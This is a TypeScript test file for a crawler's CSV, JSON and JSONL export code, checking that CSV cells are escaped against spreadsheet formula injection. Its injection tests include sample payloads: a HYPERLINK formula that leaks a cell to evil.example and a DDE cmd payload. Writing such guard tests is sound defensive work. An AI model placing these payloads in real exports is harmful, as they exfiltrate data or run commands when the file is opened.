import { llmExportItemSchema } from '@crawl/core';
import type { JobRow } from '@crawl/db';
import { detailsItem, jobRow, searchItem } from '@crawl/testing';
import { CSV_COLUMNS, csvCell, csvHeader, csvRow } from './csv';
import { EXPORT_FORMATS } from './index';
import { llmItem } from './llm';

/** Splits one CSV record produced by csvRow (RFC 4180: quoted cells may hold commas, quotes, newlines). */
function parseRecord(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let text = '';
      i++;
      for (;;) {
        if (line[i] === '"' && line[i + 1] === '"') {
          text += '"';
          i += 2;
        } else if (line[i] === '"') break;
        else text += line[i++];
      }
      cells.push(text);
      i += 2; // closing quote and comma
    } else {
      const end = line.indexOf(',', i);
      cells.push(line.slice(i, end === -1 ? line.length : end));
      i = end === -1 ? line.length + 1 : end + 1;
    }
  }
  return cells;
}

const row = (type: JobRow['type'], item: Record<string, unknown>) => {
  const text = csvRow(type, item);
  expect(text.endsWith('\r\n')).toBe(true);
  const cells = parseRecord(text.slice(0, -2));
  expect(cells).toHaveLength(CSV_COLUMNS[type].length);
  return Object.fromEntries(CSV_COLUMNS[type].map(([header], i) => [header, cells[i]]));
};

describe('CSV injection guard', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
    ['+1+cmd|" /C calc"!A0', `'+1+cmd|" /C calc"!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(1,2)', `'@SUM(1,2)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['-5', `'-5`], // a string that looks like a number is still text from a page
  ])('prefixes %j with a quote', (title, expected) => {
    expect(row('details', { title }).title).toBe(expected);
  });

  it('applies to every text column, search and details alike', () => {
    const search = row('search', {
      keyword: '=cmd',
      asin: '+B0',
      title: '@x',
      url: '-u',
      image: '=i',
      price: { amount: 5, currency: '=USD' },
      badges: ['=b'],
    });
    expect(search).toMatchObject({
      keyword: `'=cmd`,
      asin: `'+B0`,
      title: `'@x`,
      url: `'-u`,
      image: `'=i`,
      price_currency: `'=USD`,
      badges: '["=b"]',
    });
    const details = row('details', {
      target: '=t',
      brand: '+b',
      description: '-d',
      availability: { status: '@s', text: '=t' },
      seller: { name: '=n', id: '-1' },
      parserVersion: '=v',
    });
    expect(details).toMatchObject({
      target: `'=t`,
      brand: `'+b`,
      description: `'-d`,
      availability_status: `'@s`,
      availability_text: `'=t`,
      seller_name: `'=n`,
      seller_id: `'-1`,
      parser_version: `'=v`,
    });
  });

  it('leaves numbers we render, booleans, JSON cells and ordinary text alone', () => {
    expect(
      row('search', {
        position: 3,
        rating: 4.5,
        reviewsCount: 0,
        price: { amount: 19.99, currency: 'USD' },
        isPrime: true,
        title: 'USB-C hub, 7 ports',
      }),
    ).toMatchObject({
      position: '3',
      rating: '4.5',
      reviews_count: '0',
      price_amount: '19.99',
      is_prime: 'true',
      title: 'USB-C hub, 7 ports',
    });
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(csvCell(['=a'])).toBe('"[""=a""]"');
    expect(csvCell({ '=k': 1 })).toBe('"{""=k"":1}"');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(' =1')).toBe(' =1');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('keeps RFC 4180 quoting around a prefixed cell', () => {
    expect(csvCell('=A1,"x"\nnext')).toBe(`"'=A1,""x""\nnext"`);
    expect(csvCell('\r\n=1')).toBe(`"'\r\n=1"`);
  });

  it('leaves the header row as it is', () => {
    expect(csvHeader('details').startsWith('target,asin,url,title,')).toBe(true);
  });
});

describe('json and llm exports stay exact', () => {
  const job = jobRow({ id: 'job_0000000000000000', type: 'details', marketplace: 'US' });

  it('llm items carry stored text unchanged', () => {
    const item = llmItem(
      job,
      detailsItem('B000000001', {
        target: '=t',
        title: '=HYPERLINK("x")',
        brand: '-b',
        description: '@d',
        price: { amount: 5, currency: 'USD' },
      }),
    );
    expect(item).toMatchObject({ query: '=t', title: '=HYPERLINK("x")', brand: '-b', description: '@d', price: 5 });
    expect(llmExportItemSchema.parse(item)).toEqual(item);
  });

  it('an llm item has every key of the contract for both kinds of item', () => {
    const search = jobRow({ ...job, type: 'search' });
    expect(
      llmExportItemSchema.parse(llmItem(search, searchItem('usb cable', 3, { isSponsored: true, organicPosition: null }))),
    ).toMatchObject({
      source: 'search',
      query: 'usb cable',
      rank: 3,
      organicRank: null,
      isSponsored: true,
      availability: null,
    });
    expect(llmExportItemSchema.parse(llmItem(job, detailsItem('B000000002')))).toMatchObject({
      source: 'details',
      query: 'B000000002',
      rank: null,
      availability: 'in_stock',
    });
  });
});

describe('jsonl', () => {
  const job = jobRow({ id: 'job_0000000000000000', type: 'details', marketplace: 'US' });
  const items = [detailsItem('B000000001', { title: 'two\nlines\u2028and a separator' }), detailsItem('B000000002')];
  const file = (format: 'json' | 'jsonl') => {
    const f = EXPORT_FORMATS[format];
    return f.header(job, new Date(0)) + items.map((item, i) => f.row(job, item, i)).join('') + f.footer(job);
  };

  it('is the json export one item per line: the same items, the same key order', () => {
    const lines = file('jsonl').split('\n');
    expect(lines.at(-1)).toBe('');
    expect(lines.slice(0, -1).map((l) => JSON.parse(l) as unknown)).toEqual(JSON.parse(file('json')));
    expect(lines.slice(0, -1).map((l) => Object.keys(JSON.parse(l) as object))).toEqual(
      (JSON.parse(file('json')) as object[]).map((item) => Object.keys(item)),
    );
  });
});
